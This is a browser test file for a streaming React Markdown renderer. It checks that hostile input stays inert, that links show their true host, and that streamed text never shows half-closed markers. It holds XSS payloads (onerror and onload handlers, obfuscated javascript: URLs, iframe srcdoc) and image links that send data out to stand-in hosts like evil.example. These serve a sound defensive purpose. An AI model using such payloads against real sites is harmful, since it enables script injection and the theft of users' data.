import { describe, expect, it, onTestFinished } from 'vitest';
import { render } from 'vitest-browser-react';
import { Markdown } from './markdown.tsx';
import '../styles.css';

const HOSTILE = [
  '<img src=x onerror="window.hacked = true">',
  '<svg onload="window.hacked = true"></svg>',
  '<script>window.hacked = true</script>',
  '<style>body { display: none }</style>',
  '<iframe src="https://evil.example"></iframe>',
  '[x](jav&#x09;ascript:alert(1))',
  '[x](javascript%3aalert(1))',
  '![x](https://evil.example/p.png?secret=1)',
  '![x](//evil.example/p.png)',
  '<details>\n\n<img src=x onerror=hack()>\n\n</details>',
  '<iframe srcdoc="<script>window.hacked = true</script>">',
  '[x](java&#x0A;script:alert(1)) [y](JaVaScRiPt:alert(1)) [z](\u0001javascript:alert(1))',
  '![x](https://evil.example/c?d=QkFTRTY0) ![y](streamdown:incomplete-image) [z](streamdown:incomplete-link)',
  '<p style="position:fixed">x</p>',
];

describe.each(HOSTILE)('hostile text %j', (text) => {
  it('makes no element but those of Markdown and requests nothing, at every prefix', async () => {
    const requested: string[] = [];
    const observer = new PerformanceObserver((list) =>
      requested.push(...list.getEntries().map((entry) => entry.name)),
    );
    observer.observe({ type: 'resource' });
    onTestFinished(() => observer.disconnect());
    const { container, rerender } = await render(<Markdown text="" streaming />);
    for (let end = 1; end <= text.length; end++) {
      await rerender(<Markdown text={text.slice(0, end)} streaming={end < text.length} />);
      expect(
        container.querySelector(
          'img, svg:not(.hr-icon), script, style, iframe, details, [style], [onerror], [onload]',
        ),
      ).toBe(null);
      for (const link of container.querySelectorAll('a'))
        expect(link.protocol).toMatch(/^https?:$/);
    }
    expect(requested.filter((url) => url.includes('evil'))).toEqual([]);
    expect(window).not.toHaveProperty('hacked');
  });
});

it.each([
  ['a <b>bold</b> & &lt;i&gt; &amp;', 'a <b>bold</b> & <i> &'],
  ['<script>1</script>', '<script>1</script>'],
])('shows markup as its source: %j', async (text, shown) => {
  const { container } = await render(<Markdown text={text} />);
  expect(container.textContent).toBe(shown);
});

it('opens links without giving the page away, and says where they lead', async () => {
  const screen = await render(<Markdown text="[the policy](https://example.com/refunds)" />);
  const link = screen.getByRole('link', { name: 'the policy' });
  await expect.element(link).toHaveAttribute('rel', 'noopener noreferrer');
  await expect.element(link).toHaveAttribute('title', 'example.com');
});

it.each([
  '[bank.example](https://evil.example/login)',
  '[https://bank.example](https://bank.example@evil.example/)',
  '<https://bank.example@evil.example/>',
  '[bank.example](//evil.example)',
  '[bank.example](/\\\\evil.example)',
])('shows the host of a link whose text names another one: %s', async (text) => {
  const screen = await render(<Markdown text={text} />);
  await expect.element(screen.getByText('(evil.example)')).toBeVisible();
});

it('names the host of an image it does not load', async () => {
  const screen = await render(<Markdown text="![A chart](https://tracker.example/p.png)" />);
  await expect.element(screen.getByText('Image from tracker.example not loaded')).toBeVisible();
  await expect.element(screen.getByText('A chart')).toBeVisible();
});

it.each([
  ['234234*123', '234234*123'],
  ['about ~$0.79/m3 and ~$300/t', 'about ~$0.79/m3 and ~$300/t'],
  ['a_b and a\\_b', 'a_b and a_b'],
])('shows %j as prose, also while it comes', async (text, shown) => {
  const { container, rerender } = await render(<Markdown text="" streaming />);
  for (let end = 1; end <= text.length; end++) {
    await rerender(<Markdown text={text.slice(0, end)} streaming />);
    // What a backslash is for is not known before the next character.
    expect(`${shown} ${text}`).toContain(container.textContent);
    expect(container.querySelector('em, strong, del')).toBe(null);
  }
  await rerender(<Markdown text={text} />);
  expect(container.textContent).toBe(shown);
});

it.each([
  ['**$750 is a lot of money**', 'strong'],
  ['*这是斜体文字（带括号）。*这句子继续。', 'em'],
  ['~~删除的文字（带括号）。~~这个句子是正确的。', 'del'],
  ['**重要提示（Important Notice）：**请注意。', 'strong'],
  ['**“공개 문서는 점검한다”**는 원칙입니다.', 'strong'],
  ['원칙**“공개”**', 'strong'],
])('marks up %j', async (text, tag) => {
  const { container } = await render(<Markdown text={text} />);
  expect(container.querySelector(tag)).not.toBe(null);
  expect(container.textContent).not.toMatch(/[*~]/);
});

it.each([
  '%',
  '## %',
  '> %',
  '> said\n>\n> %',
  '- one\n- [ ] %',
  '1. one\n   - %',
  '- > %',
  '| % | Ships |\n| --- | --- |\n| 1 | 2 |',
  '| Port | Ships |\n| --- | --- |\n| Bremen | % |\n| % | 4 |',
  '- step\n\n  | % |\n  | --- |\n  | % |',
])('never shows a half-closed marker while it streams in %j', async (around) => {
  const words =
    'The **total is 84** and `code` is _done_, see [it](https://a.example) or ![a chart](https://a.example/c.png) now';
  const text = around.replaceAll('%', words);
  const { container, rerender } = await render(<Markdown text="" streaming />);
  for (let end = 1; end < text.length; end++) {
    await rerender(<Markdown text={text.slice(0, end)} streaming />);
    expect(container.textContent).not.toMatch(/[*`_(|]|https/);
  }
});

it('closes no mark that an earlier item or cell left open', async () => {
  const texts = [
    '- pass **kwargs on\n- Done so far',
    '| a | b |\n| - | - |\n| **kwargs | Done so far',
  ];
  for (const text of texts) {
    const { container, rerender } = await render(<Markdown text="" streaming />);
    for (let end = text.indexOf('Done') + 1; end <= text.length; end++) {
      await rerender(<Markdown text={text.slice(0, end)} streaming />);
      const last = [...container.querySelectorAll('li, td')].at(-1);
      expect(last?.textContent).toBe(text.slice(text.indexOf('Done'), end).trimEnd());
    }
  }
});

it('adds no mark to code that is written in a list', async () => {
  const code = '  *p = *q ** 2;\n\n  _x = `a';
  const text = `- step\n\n  \`\`\`c\n${code}`;
  const { container, rerender } = await render(<Markdown text="" streaming />);
  for (let end = text.indexOf('*p'); end <= text.length; end++) {
    await rerender(<Markdown text={text.slice(0, end)} streaming />);
    expect(text.replaceAll('\n  ', '\n')).toContain(container.querySelector('pre')?.textContent);
  }
});

const TABLE = '| Name | Qty |\n| --- | ---: |\n| A | 1 |';

it.each([
  ['at the start', TABLE],
  ['below a paragraph', `Two:\n\n${TABLE}`],
  ['below a line', `Two:\n${TABLE}`],
  ['in a list', `- Two:\n\n${TABLE.replaceAll(/^/gm, '  ')}`],
  ['in a quote', `> Two:\n>\n${TABLE.replaceAll(/^/gm, '> ')}`],
])('shows a table from its first cell on, and none of it as a paragraph: %s', async (_, text) => {
  const { container, rerender } = await render(<Markdown text="" streaming />);
  let columns = 0;
  for (let end = 1; end <= text.length; end++) {
    await rerender(<Markdown text={text.slice(0, end)} streaming />);
    for (const paragraph of container.querySelectorAll('p'))
      expect('Two:').toContain(paragraph.textContent);
    const heads = container.querySelectorAll('th').length;
    expect(heads).toBeGreaterThanOrEqual(columns);
    columns = heads;
    expect(container.textContent).not.toContain('-');
  }
  expect(columns).toBe(2);
});

it('keeps a code block in a list when streaming ends', async () => {
  const text = '- step\n\n  ```js\n  a()\n  ```\n';
  const { container, rerender } = await render(<Markdown text={text} streaming />);
  expect(container.querySelector('pre')?.textContent).toContain('a()');
  await rerender(<Markdown text={text} />);
  expect(container.querySelector('pre')?.textContent).toContain('a()');
});

it('keeps the elements of finished blocks as it grows', async () => {
  const start = 'One.\n\n```js\nrun()\n```\n\nTwo.\n\nThree.\n\n';
  const { container, rerender } = await render(<Markdown text={start} streaming />);
  const before = container.querySelector('pre');
  await rerender(<Markdown text={`${start}${'More. '.repeat(40)}`} streaming />);
  expect(container.querySelector('pre')).toBe(before);
});

it('changes nothing on the page but the last blocks of a long answer', async () => {
  const paragraph = 'The harbour was rebuilt after the *flood*, and with it the `tables`.\n\n';
  const start = paragraph.repeat(200);
  const { container, rerender } = await render(<Markdown text={start} streaming />);
  const changed = new Set<Node>();
  const observer = new MutationObserver((records) =>
    records.forEach((record) => changed.add(record.target)),
  );
  observer.observe(container, {
    subtree: true,
    childList: true,
    characterData: true,
    attributes: true,
  });
  await rerender(<Markdown text={`${start}One more`} streaming />);
  await rerender(<Markdown text={`${start}One more word`} streaming />);
  observer.takeRecords().forEach((record) => changed.add(record.target));
  observer.disconnect();
  expect(changed.size).toBeGreaterThan(0);
  expect(changed.size).toBeLessThan(5);
});

it('lays code out from left to right on a page from right to left', async () => {
  const { container } = await render(
    <div dir="rtl">
      <Markdown text={'مرحبا `npm run` ثم\n\n> اقتباس\n\n```\n1. שלום (בדיקה)\n```'} />
    </div>,
  );
  const pre = container.querySelector('pre');
  expect(pre && getComputedStyle(pre).direction).toBe('ltr');
  expect(pre && getComputedStyle(pre).unicodeBidi).toBe('plaintext');
  const quote = container.querySelector('blockquote');
  expect(quote && getComputedStyle(quote).direction).toBe('rtl');
  const code = container.querySelector('.hr-markdown-code');
  expect(code && getComputedStyle(code).unicodeBidi).toBe('isolate');
});

it('links nothing that could do more than lead somewhere, nor loads an image, at any length', async () => {
  const text = [
    '[a](javascript:alert(1)) [b](JaVa\tScript:alert(1)) [c](data:text/html,<script>) [d](vbscript:x)',
    '[e](&#106;avascript:alert(1)) [f](blob:https://x.example/1) <javascript:alert(1)> [g](file:///etc)',
    '![h](https://pixel.example/?q=secret) ![i](//pixel.example/p.png) ![j](data:image/svg+xml,<svg/onload=x>)',
    '<img src=x onerror=alert(1)> <a href="javascript:x">y</a> <svg onload=alert(1)>',
  ].join('\n\n');
  const { container, rerender } = await render(<Markdown text="" streaming />);
  for (let end = 1; end <= text.length; end++) {
    await rerender(<Markdown text={text.slice(0, end)} streaming />);
    expect([...container.querySelectorAll('a, img, script, svg:not(.hr-icon)')]).toEqual([]);
  }
});

it('leaves the copy button harmless where the page has no clipboard, as without https', async () => {
  const screen = await render(<Markdown text={'```js\nrun()\n```'} />);
  Object.defineProperty(navigator, 'clipboard', { value: undefined, configurable: true });
  try {
    await screen.getByRole('button', { name: 'Copy code' }).click();
    await expect.element(screen.getByRole('button', { name: 'Copy code' })).toBeVisible();
  } finally {
    Reflect.deleteProperty(navigator, 'clipboard');
  }
});
